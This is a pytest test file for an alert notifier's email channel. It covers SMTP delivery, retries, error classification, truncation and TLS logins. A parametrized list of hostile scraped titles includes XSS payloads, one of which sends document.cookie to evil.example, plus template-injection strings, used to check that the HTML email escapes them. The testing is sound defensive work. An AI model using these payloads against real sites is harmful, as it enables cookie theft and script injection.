"""The email channel against a real SMTP server (aiosmtpd) on 127.0.0.1."""

from __future__ import annotations

import ssl
from html.parser import HTMLParser

import pytest
import trustme

from notifier import DeliveryError, make_channel
from tests.notifier.servers import HOST, MailServer, free_port

RECIPIENTS = ["me@example.org", "wiki-team@example.org"]


def mail_channel(port: int, **options):
    config = {
        "type": "email",
        "host": HOST,
        "port": port,
        "security": "none",
        "from": "claimwatch <alerts@example.org>",
        "to": RECIPIENTS,
        "timeout_s": 5,
        **options,
    }
    return make_channel("mail", config)


async def test_an_alert_arrives_as_text_and_html_to_every_recipient(mail_server, alert):
    await mail_channel(mail_server.port).send(alert, idempotency_key="cw-7-mail")
    [received] = mail_server.received
    assert received.mail_from == "alerts@example.org"
    assert received.rcpt_tos == RECIPIENTS
    message = received.message
    assert message["Subject"] == (
        "All of Us Are Dead S2: release window now March 2026 (reported, 3 sources), was: early 2026"
    )
    assert message["From"] == "claimwatch <alerts@example.org>"
    assert message["To"] == "me@example.org, wiki-team@example.org"
    assert message["Message-ID"] == "<cw-7-mail@claimwatch>"
    assert message["Auto-Submitted"] == "auto-generated"
    assert message.get_content_type() == "multipart/alternative"
    text = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()
    assert "— example.org (according to Variety), https://example.org/a" in text
    assert '<a href="https://example.org/a">example.org</a>' in html


async def test_a_retried_alert_keeps_its_message_id_so_receivers_can_deduplicate(mail_server, alert):
    channel = mail_channel(mail_server.port)
    await channel.send(alert, idempotency_key="cw-7-mail")
    await channel.send(alert, idempotency_key="cw-7-mail")
    await channel.send(alert, idempotency_key="cw-8-mail")
    assert [m["Message-ID"] for m in mail_server.messages] == [
        "<cw-7-mail@claimwatch>",
        "<cw-7-mail@claimwatch>",
        "<cw-8-mail@claimwatch>",
    ]


async def test_a_non_ascii_subject_and_sentence_survive_the_trip(mail_server, make_alert):
    alert = make_alert(
        kind="cast",
        change="added",
        previous=None,
        certainty="official",
        value={"name": "이민재", "status": "new"},
        evidence=[{"url": "https://example.org/k", "sentence": "이민재가 합류한다."}],
    )
    await mail_channel(mail_server.port).send(alert, idempotency_key="k")
    [message] = mail_server.messages
    assert message["Subject"] == "All of Us Are Dead S2: 이민재 joins the cast (confirmed)"
    assert "“이민재가 합류한다.”" in message.get_body(("plain",)).get_content()


async def test_an_smtp_server_that_is_down_is_a_transient_failure(alert):
    with pytest.raises(DeliveryError) as error:
        await mail_channel(free_port()).send(alert, idempotency_key="k")
    assert not error.value.permanent
    assert error.value.channel == "mail"
    assert "connection refused" in str(error.value)


async def test_a_recipient_refused_with_550_is_permanent(mail_server, alert):
    for address in RECIPIENTS:
        mail_server.refuse(address, "550 5.1.1 no such user")
    with pytest.raises(DeliveryError) as error:
        await mail_channel(mail_server.port).send(alert, idempotency_key="k")
    assert error.value.permanent
    assert "me@example.org (550)" in str(error.value)


async def test_a_try_later_reply_is_transient(mail_server, alert):
    mail_server.refuse_data("451 4.3.0 mailbox busy, try again later")
    with pytest.raises(DeliveryError) as error:
        await mail_channel(mail_server.port).send(alert, idempotency_key="k")
    assert not error.value.permanent
    assert "451" in str(error.value)


async def test_one_refused_recipient_still_lets_the_others_receive_it(mail_server, alert):
    mail_server.refuse("wiki-team@example.org", "550 5.1.1 no such user")
    with pytest.raises(DeliveryError) as error:
        await mail_channel(mail_server.port).send(alert, idempotency_key="k")
    assert [mail.rcpt_tos for mail in mail_server.received] == [["me@example.org"]]
    assert error.value.permanent
    assert "delivered to the others but refused wiki-team@example.org (550)" in str(error.value)


async def test_starttls_against_a_server_without_it_is_permanent(mail_server, alert):
    with pytest.raises(DeliveryError) as error:
        await mail_channel(mail_server.port, security="starttls").send(alert, idempotency_key="k")
    assert error.value.permanent
    assert mail_server.messages == []


HOSTILE = [
    '</td></table><script src="https://evil.example/x.js"></script>',
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    '"><a href="javascript:alert(1)">click</a><!--',
    "{{ config.__class__ }} {% for x in () %}${7*7}",
    "<style>body{display:none}</style><iframe src=//evil.example>",
]
ALLOWED_TAGS = {"html", "head", "meta", "body", "h2", "h3", "table", "tr", "th", "td", "blockquote", "br",
                "small", "a", "p", "ul", "li"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


@pytest.mark.parametrize("title", HOSTILE)
async def test_a_hostile_scraped_title_is_inert_text_in_both_parts(mail_server, make_alert, title):
    evidence = [{"url": "https://example.org/a", "site": title, "sentence": title, "attributed_to": title}]
    person = {"name": title, "character": title, "status": "new"}
    alert = make_alert(kind="cast", change="added", previous=None, value=person, evidence=evidence)
    await mail_channel(mail_server.port).send(alert, idempotency_key="cw-hostile")
    [message] = mail_server.messages
    html_part = message.get_body(("html",)).get_content()
    parser = _Tags()
    parser.feed(html_part)
    assert {tag for tag, _ in parser.tags} <= ALLOWED_TAGS
    for _, attrs in parser.tags:
        assert not [name for name in attrs if name.startswith("on") or name == "src"]
        assert all(value in ("https://example.org/a", "https://news.example.com/b")
                   for name, value in attrs.items() if name == "href")
    assert title in "".join(parser.text)  # shown to the reader, as text
    assert title in message.get_body(("plain",)).get_content()  # the template ran nothing: "${7*7}" stays
    assert "49" not in message["Subject"]


async def test_an_email_over_its_size_limit_is_shortened_with_a_link(mail_server, make_alert):
    evidence = [{"url": f"https://example.org/{i}", "site": "example.org", "sentence": "Words. " * 100}
                for i in range(5)]
    await mail_channel(mail_server.port, max_chars=1500).send(make_alert(evidence=evidence), idempotency_key="k")
    [message] = mail_server.messages
    text = message.get_body(("plain",)).get_content()
    assert len(text) <= 1501 and "the rest at https://example.org/0" in text
    assert message["Subject"].startswith("All of Us Are Dead S2: release window now")
    assert "the rest at https://example.org/0" in message.get_body(("html",)).get_content()


@pytest.fixture(scope="module")
def tls_files(tmp_path_factory):
    """A CA of the tests' own (trustme) and a server certificate for 127.0.0.1 signed by it."""
    ca = trustme.CA()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(HOST).configure_cert(context)
    ca_file = tmp_path_factory.mktemp("tls") / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    return context, str(ca_file)


USERS = {"alerts@example.org": "s3cret-pass"}


@pytest.mark.parametrize("security", ["starttls", "tls"])
async def test_a_login_over_starttls_or_implicit_tls_delivers(tls_files, alert, security):
    context, ca_file = tls_files
    with MailServer(security=security, tls=context, users=USERS) as server:
        channel = mail_channel(server.port, security=security, username="alerts@example.org",
                               password="s3cret-pass", ca_file=ca_file)
        await channel.send(alert, idempotency_key="cw-7-mail")
    assert server.logins == ["alerts@example.org"]
    [received] = server.received
    assert received.rcpt_tos == RECIPIENTS  # several recipients, one message


async def test_a_wrong_password_is_permanent(tls_files, alert):
    context, ca_file = tls_files
    with MailServer(security="starttls", tls=context, users=USERS) as server:
        channel = mail_channel(server.port, security="starttls", username="alerts@example.org",
                               password="wrong", ca_file=ca_file)
        with pytest.raises(DeliveryError) as error:
            await channel.send(alert, idempotency_key="k")
    assert error.value.permanent and "535" in str(error.value)
    assert server.messages == []


async def test_a_certificate_no_trusted_ca_signed_is_refused(tls_files, alert):
    context, _ = tls_files
    with MailServer(security="tls", tls=context) as server, pytest.raises(DeliveryError) as error:
        await mail_channel(server.port, security="tls").send(alert, idempotency_key="k")
    assert error.value.permanent and "certificate" in str(error.value)
